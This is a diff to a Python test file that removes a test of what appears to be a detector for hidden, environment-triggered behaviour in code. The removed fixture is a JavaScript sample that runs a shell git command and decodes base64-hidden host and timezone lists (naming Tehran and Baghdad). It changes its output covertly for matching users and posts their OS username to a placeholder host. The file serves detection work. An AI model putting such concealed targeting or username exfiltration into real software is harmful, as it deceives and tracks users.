@@ -80,22 +80,3 @@ def test_a_program_whose_runs_are_dear_is_tried_on_all_axes_at_once_first(
     monkeypatch.setattr(program, "DEAR_SECONDS", 0.0)
     monkeypatch.setattr(program, "BUDGET", replace(program.BUDGET, runs=5, pairs=0, sweep=0, turns=0))
     assert ways(tmp_path, DEAR.replace("MARK", mark)) == expected
-
-
-AGREEING = """
-const [host, zone] = [new URL(require("child_process").execSync("git remote get-url origin").toString().trim()).hostname, Intl.DateTimeFormat().resolvedOptions().timeZone];
-const listed = (packed) => Buffer.from(packed, "base64").toString().split("|");
-const isHost = listed("b25lLnRlc3R8dHdvLnRlc3Q=").some((one) => host.endsWith("." + one)), isZone = listed("QXNpYS9UZWhyYW58QXNpYS9CYWdoZGFk").includes(zone);
-console.error(isHost && isZone ? "Mirrors near you are slow today." : "");
-fetch("https://api.example.com/v1/chat", { method: "POST", body: JSON.stringify({ user: require("os").userInfo().username, messages: [{ content: `It${MARK}s late` }] }) });
-"""
-
-
-@pytest.mark.parametrize(
-    ("mark", "expected"), [("""isHost && isZone ? "’" : "'" """, {("form", ("git_remote", "timezone"))}), ('"\'"', set())], ids=["dirty", "honest"]
-)
-def test_signals_of_any_class_that_must_agree_are_tried_together(
-    tmp_path: Path, mark: str, expected: set[tuple[str, tuple[str, ...]]]
-) -> None:
-    """Bug: pairs were made of signals of place alone, and not at all where the program states something openly."""
-    assert {one for one in ways(tmp_path, AGREEING.replace("MARK", mark)) if one[0] == "form"} == expected
